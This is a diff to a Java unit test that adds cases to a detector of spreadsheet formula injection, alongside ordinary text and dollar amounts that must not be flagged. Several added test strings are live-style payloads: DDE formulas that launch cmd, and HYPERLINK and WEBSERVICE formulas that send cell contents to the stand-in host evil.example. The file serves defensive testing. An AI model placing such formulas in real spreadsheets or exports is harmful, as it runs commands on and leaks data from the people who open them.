@@ -66,7 +66,14 @@ class FormulasTest {
                 "-2+3+cmd|' /C calc'!A0",
                 "@SUM(1+9)*cmd|' /C calc'!A0",
                 "-1\n+cmd|'/C calc'!A0",
-                "+cmd|calc!A0"
+                "+cmd|calc!A0",
+                "+cmd|'/C echo it''s'!A0",
+                "+'cmd'|'/C calc'!A0",
+                "+cmd |'/C calc'!A0",
+                "+'https://evil.example/[it''s.xlsx]S'!A1",
+                "+IFERROR(#N/A,HYPERLINK(\"https://evil.example/?\"&A2,\"x\"))",
+                "-1+WEBSERVICE(\"https://evil.example/?\"&A1#)",
+                "- IF (1,HYPERLINK(\"https://evil.example/?\"&A2,\"x\"))"
             })
     void tellsAFormula(String cell) {
         assertThat(Formulas.isFormula(cell)).isTrue();
@@ -129,7 +136,13 @@ class FormulasTest {
                 "- a || b\n- c != d",
                 "- `x|'a' != y`",
                 "@f\ndef g(): return x|'b'!=c",
-                "a == b | c != d"
+                "a == b | c != d",
+                "- $100",
+                "-$5",
+                "+$20/month",
+                "- $x",
+                "- $a + b$",
+                "- $p = q$"
             })
     void tellsATextOfQuestions(String cell) {
         assertThat(Formulas.isFormula(cell)).isFalse();
